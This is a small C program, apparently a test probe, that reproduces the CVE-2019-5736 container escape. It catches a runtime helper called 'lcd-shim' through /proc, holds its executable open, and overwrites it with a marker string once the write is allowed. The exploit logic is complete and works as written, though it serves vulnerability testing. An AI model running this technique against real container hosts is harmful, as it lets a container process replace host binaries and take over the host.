/* A hostile container process (CVE-2019-5736): catch a runtime helper inside the container,
 * keep a handle on its executable, and try to open that for writing once it can. Prints
 * "HOLD" for each helper caught and "OVERWROTE" if the attack worked. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

int main(int argc, char **argv) {
    double deadline = now() + (argc > 1 ? atof(argv[1]) : 5);
    int holds = 0;
    setvbuf(stdout, NULL, _IOLBF, 0);
    while (now() < deadline) {
        DIR *proc = opendir("/proc");
        struct dirent *entry;
        while (proc && (entry = readdir(proc))) {
            if (entry->d_name[0] < '1' || entry->d_name[0] > '9') continue;
            char path[64], target[4096];
            snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
            ssize_t n = readlink(path, target, sizeof target - 1);
            if (n <= 0) continue;
            target[n] = 0;
            if (!strstr(target, "lcd-shim")) continue;
            int fd = open(path, O_RDONLY);
            if (fd < 0) continue;
            printf("HOLD %s -> %s\n", path, target);
            holds++;
            char reopen[64];
            snprintf(reopen, sizeof reopen, "/proc/self/fd/%d", fd);
            for (int i = 0; i < 2000; i++) {   /* up to 2 s: until the helper's exec releases ETXTBSY */
                int w = open(reopen, O_WRONLY);
                if (w >= 0) {
                    write(w, "pwned", 5);
                    printf("OVERWROTE %s\n", target);
                    return 1;
                }
                if (errno != ETXTBSY) { printf("DENIED %s: %s\n", target, strerror(errno)); break; }
                usleep(1000);
            }
            close(fd);
        }
        if (proc) closedir(proc);
    }
    printf("holds=%d\n", holds);
    return 0;
}
